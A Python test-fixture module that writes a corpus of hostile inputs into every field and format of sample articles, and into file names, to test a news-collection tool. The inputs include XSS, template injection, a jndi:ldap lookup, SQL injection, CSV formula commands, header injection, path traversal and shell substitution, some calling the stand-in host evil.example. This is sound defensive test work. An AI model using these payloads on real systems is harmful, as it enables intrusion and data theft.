"""A corpus of hostile texts by kind of attack, and a collection of them.

The collection has each text in every field of every format. Code that runs in a browser sets
``window.pwned``, so a test can ask the page for it. All texts are short; ``bombs.py`` has those
that are dangerous by their size.
"""

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from contextlib import suppress
from html import escape
from itertools import chain
from pathlib import Path
from urllib.parse import quote

WORD = "жираф"  # occurs in every article of the collection
RUN = "window.pwned=1"
TAIL = "и другие жители заповедника у тихой излучины большой северной реки"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "markup": (
        "<b>жирный</b><i>",
        "</mark></p></article></main></body></html><h1>чужой</h1>",
        "<!--",
        "--><!DOCTYPE html><base href=//evil.example/>",
        "</textarea></title></style></noscript></template>",
        "<![CDATA[<x/>]]>",
        "&lt;script&gt;&#60;script&#62;&amp;lt;&#0;&#x80000000;&nosuch;",
        "<form action=//evil.example><input name=q autofocus>"
        "<button formaction=javascript:window.pwned=1>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<link rel=stylesheet href=//evil.example/a.css>"
        "<style>@import '//evil.example/b.css'</style>",
        "<mark><mark></mark></mark>",
    ),
    "script": (
        f"<script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT\t>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        "<script src=//evil.example/a.js></script>",
        f"\"-({RUN})-\"';{RUN};//",
        f"</template><script>{RUN}</script>",
        f"＜script＞{RUN}＜/script＞",
        f"\u2028{RUN}\u2029</script>",
    ),
    "handlers": (
        f'"><img src=x onerror="{RUN}">',
        f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
        f"`><img/src=`x`onerror={RUN}>",
        f"<body onload={RUN}><details open ontoggle={RUN}>",
        f"<video><source onerror={RUN}><audio src=x onerror={RUN}>",
        f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'>",
        f"<input autofocus onfocus={RUN}><marquee onstart={RUN}>",
        f'x" style="animation:a 1s" onanimationstart="{RUN}',
    ),
    "links": (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"\x01javascript:{RUN}",
        f" \u00a0javascript:{RUN}",
        f"&#106;avascript&colon;{RUN}",
        f"javascript&#x3A;{RUN}",
        f"javascript://example.org/%0a{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        f"[ссылка](javascript:{RUN})",
        f"http://\"onmouseover='{RUN}'/",
        f"https:javascript:{RUN}",
        f"https://example.org/\" onclick=\"{RUN}",
        "https://[::1/", "http://e\u202eгро.example/",
        "//evil.example/", "\\\\evil.example\\x", "https://user:word@evil.example/",
        "blob:https://example.org/x", "view-source:https://example.org/",
    ),
    "drawings": (
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    ),
    "templates": (
        "{{ 1237*1747 }}", "{% raw %}{{ config }}{% endraw %}", "{% include '/etc/passwd' %}",
        "{# нет #}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${1237*1747}", "<% 1237*1747 %>",
        "<%= 1237*1747 %>", "#{1237*1747}",
        "%{1237*1747}", "[[1237*1747]]", "{{constructor.constructor('window.pwned=1')()}}",
        "${jndi:ldap://evil.example/a}",
        "## python: 1237*1747", "<%! import os %>",
    ),
    "formats": (
        "%s%s%s%n%x", "%(query)s %(number)d %(", "100% %", "{0} {query} {self.__class__}", "%%%",
        "$HOME `id` $(id)",
        "%00 %0d%0a %c0%af %zz %", "{!r:>1000000000}", "\\N{BULLET} \\x1b \\u202e \\",
    ),
    "queries": (
        "' OR '1'='1", "'; DROP TABLE articles; --", "title:* AND NOT (", "жираф AND * OR ?",
        "[a TO z] {* TO *}",
        "жираф^1000~0.9 +\"", "заголовок:заголовок:заголовок:", "дата:9999999999999", "/.*/",
        "_id:[* TO *]",
        "жираф) | (жираф", "\"\"\"«»„“\"", "-жираф -НЕ -", "!!!!!! ~~~~~ *****", "а /999999999 б",
        "жираф & & & жираф",
        "{\"$gt\": \"\"}", "*:*", "text:жираф _val_:\"recip(1)\"",
    ),
    "terminal": (
        "\x1b[31mкрасный\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;чужое название\x07",
        "\x1b]8;;https://evil.example\x1b\\ссылка\x1b]8;;\x1b\\",
        "\x1b]52;c;cHduZWQ=\x07", "\x1bP+q544e\x1b\\", "\x9b31mкрасный", "\x9d0;название\x9c",
        "\x90q\x9c", "\x1bc",
        "\x08\x08\x08назад", "строка\rповерх", "\x0e\x0f\x05", "звонок\x07", "\x1b[6n",
        "\x1b[?1049h", "\x7f\x85\x84",
        "\x1b", "прокрутка\x0b\x0c",
    ),
    "directions": (
        "\u202eоборот\u202c", "\u202dслева", "\u2066\u2067\u2068изоляция", "\u200f\u200eметка",
        "\u061cарабская метка",
        "\u2069\u202cнепарные", "txt.\u202eexe", "עברית وعربية",
    ),
    "invisible": (
        "жи\u200bраф", "\u200d\u200c\ufeffжираф", "жи\u00adраф", "\u2060\u180e",
        "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb",
        "\u3164\u115f", "👩\u200d👩\u200d👧\u200d👦🇷🇺", "\ufe0f\u20e3", "\u00a0\u2003\u3000",
    ),
    "controls": (
        "нуль\x00в слове", "\x00", "".join(map(chr, range(1, 32))),
        "".join(map(chr, range(127, 160))),
        "\ufffe\uffff\ufdd0\U0001ffff", "\u2028\u2029", "половина \ud800 знака", "\udfff\ud83d",
        "\udc80\udcff",
    ),
    "letters": (
        "е" + "\u0301" * 500, "ж" + "\u0489\u0335\u0310" * 100 + "и", "жиpaф", "жuраф",
        "ЖИРАФ\u0130ıſß", "ﷺ" * 50, "ǅ ﬃ №㏒",
        "к\u0306и\u0306\u0308ё", "ＨＴＭＬ", "᠀𐀀𝐀", "İstanbul",
    ),
    "tables": (
        '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
        "\t=1", "\r=1", "＝1+1",
        '"; =1', "a,b;c\td|e", '""",""', "=1\n=2",
    ),
    "headers": (
        "x\r\nSet-Cookie: pwned=1", "x\nX-Pwned: 1", "x\r\n\r\n<script>window.pwned=1</script>",
        "x\u560aX-Pwned: 1",
        "x\u2028X-Pwned: 1", '"; filename="pwned.exe', "x%0d%0aX-Pwned: 1",
    ),
    "paths": (
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc", ".",
        "..", "~root",
        "%2e%2e%2f", "..%00", "con", "nul.txt", "a/b/c", "file.txt.html.json", "-rf", "--help",
        "|id", ".hidden",
    ),
    "long": (
        "ы" * 5000, "а-" * 2500, "(" * 3000, "«" * 3000, "-" * 3000, "!" * 3000, "," * 3000,
        "9" * 5000, "1 000 " * 500,
        "г. " * 1000, "Да. " * 1000, "а\u0301-" * 500, "~" * 1000, "*" * 1000,
        "http://" + "а" * 3000, "&amp;" * 500,
        "\n" * 500 + "а",
    ),
    "loops": (
        "a" * 200 + "!", "(a+)+$" + "a" * 100, " " * 1000 + "x", "\t" * 1000 + "\n" * 1000 + "x",
        "a@" * 500, "1.1." * 500,
        "<!" * 500, "]]>" * 300, "[" * 500 + "](" * 500, "А. " * 500, "\"" * 1001,
        "x" * 100 + ": " * 300, "''" * 500,
    ),
}  # fmt: skip

#: The names of a record's fields.
FIELDS = ("title", "text", "date", "source", "section", "author", "url", "id")


def payloads() -> list[str]:
    """All payloads, without repetitions."""
    return list(dict.fromkeys(chain.from_iterable(PAYLOADS.values())))


def some() -> list[str]:
    """The first two payloads of each kind."""
    return [payload for kind in PAYLOADS.values() for payload in kind[:2]]


def write_collection(folder: Path) -> None:
    """Write each payload in every field of every format, and in names of files.

    Each article has WORD.
    """
    folder.mkdir(parents=True, exist_ok=True)
    for number, payload in enumerate(payloads()):
        for ending, content in _files(payload):
            (folder / f"{number}{ending}").write_bytes(content.encode("utf-8", "surrogatepass"))
    records = [_record(payload, number) for number, payload in enumerate(payloads())]
    (folder / "list.json").write_text(json.dumps(records), "utf-8")
    (folder / "lines.jsonl").write_text(
        "".join(json.dumps(_with_id(one, "l")) + "\n" for one in records), "utf-8"
    )
    (folder / "bare.jsonl").write_text(
        "".join(json.dumps(_without_id(one)) + "\n" for one in records), "utf-8"
    )
    (folder / "reprints.jsonl").write_text("".join(map(_reprints, records)), "utf-8")
    (folder / "table.csv").write_bytes(_table(records).encode("utf-8", "surrogatepass"))
    for number, payload in enumerate(payloads()):
        _name(folder, number, payload)


def _record(payload: str, number: int) -> dict[str, str]:
    """An article with the payload in every field; WORD is in its title and text."""
    values = dict.fromkeys(FIELDS, payload)
    return values | {
        "title": f"{payload} {WORD} {number}",
        "text": f"О том, что видел {WORD}: {payload}\nАбзац номер {number}.\n{payload}",
        "id": f"{payload}{number}",
    }


def _with_id(record: dict[str, str], prefix: str) -> dict[str, str]:
    """The record with another id, a good date, an address that becomes a link, and more text.

    The longer fields avoid a skip: a source with too many control characters would be skipped.
    """
    more = {name: f"{record[name]} {TAIL}" for name in ("title", "source", "section", "author")}
    address = f"https://example.org/{record['url']}/{quote(TAIL)}"
    return record | more | {"id": prefix + record["id"], "date": "2024-08-19", "url": address}


def _without_id(record: dict[str, str]) -> dict[str, object]:
    """The record in the form of other sources: Russian field names, a list of authors.

    Its source is an object with a name.
    """
    return {
        "заголовок": record["title"],
        "текст": f"{record['text']} Ещё раз.",
        "author": [record["author"], record["author"]],
        "source": {"name": record["source"]},
        record["source"]: record["source"],
    }


def _reprints(record: dict[str, str]) -> str:
    """Two articles of one story, for the page of differences."""
    words = record["id"].replace("\n", " ")[:300]
    told = (
        f"{WORD} {record['id'][-3:]}х переплыл реку у старой мельницы и вышел на берег, "
        f"где его ждали дети из посёлка {words} "
    )
    pair = [
        {"id": f"{name}{record['id'][-40:]}", "title": f"Река {name} {words}", "text": told + name}
        for name in ("первый", "второй")
    ]
    return "".join(json.dumps(one) + "\n" for one in pair)


def _files(payload: str) -> Iterator[tuple[str, str]]:
    """The payload as files of one article: the ending and the content of each."""
    line = " ".join(payload.split("\n"))
    names = ("Заголовок", "Дата", "Источник", "Автор", "Рубрика", "Ссылка")
    head = "\n".join(f"{name}: {line}" for name in names)
    body = f"\n\nЗдесь был {WORD}. {payload}\n\n{payload}\n"
    yield ".txt", head + body
    yield (
        ".md",
        f"---\ntitle: {json.dumps(payload)}\nsource: {line}\n"
        f"author: [{line}]\n---\n# {payload}{body}",
    )
    yield ".html", _page(payload)


def _page(payload: str) -> str:
    """A page with the payload as markup in its text, and as text in its metadata."""
    said = escape(payload, quote=True)
    names = (
        "og:title",
        "article:published_time",
        "author",
        "og:site_name",
        "article:section",
        "og:url",
    )
    metas = "".join(f'<meta property="{name}" content="{said}">' for name in names)
    linked = {
        "@type": "NewsArticle",
        "headline": payload,
        "datePublished": "2024-08-19",
        "author": {"name": payload},
    }
    data = json.dumps(linked).replace("<", "\\u003c")
    return (
        f"<!doctype html><html><head><title>{said}</title>{metas}"
        f"<script type='application/ld+json'>{data}</script></head>"
        f"<body><article><h1>{said}</h1><p>Здесь был {WORD}: {said}</p>"
        f"<p>{payload}</p></article></body></html>"
    )


def _table(records: list[dict[str, str]]) -> str:
    table = io.StringIO()
    writer = csv.DictWriter(table, [*FIELDS, PAYLOADS["tables"][0]], restval="")
    writer.writeheader()
    writer.writerows(
        {name: value.replace("\0", "") for name, value in _with_id(one, "t").items()}
        for one in records
    )
    return table.getvalue()


def _name(folder: Path, number: int, payload: str) -> None:
    """Write a file with the payload in its name, and one in a folder of such a name.

    The name is as close to the payload as the file system allows.
    """
    name = re.sub("[/\0]", "∕", payload).encode("utf-8", "surrogatepass")
    cut = os.fsdecode(name[:200])  # the cut may split a letter
    with suppress(OSError):
        (folder / f"{cut} {number}.txt").write_text(
            f"Имя\n\nЗдесь был {WORD}, его имя {number}.", "utf-8"
        )
        inner = folder / f"{number} {cut}"
        inner.mkdir()
        (inner / "статья.txt").write_text(
            f"Папка\n\nЗдесь был {WORD}, его папка {number}.", "utf-8"
        )
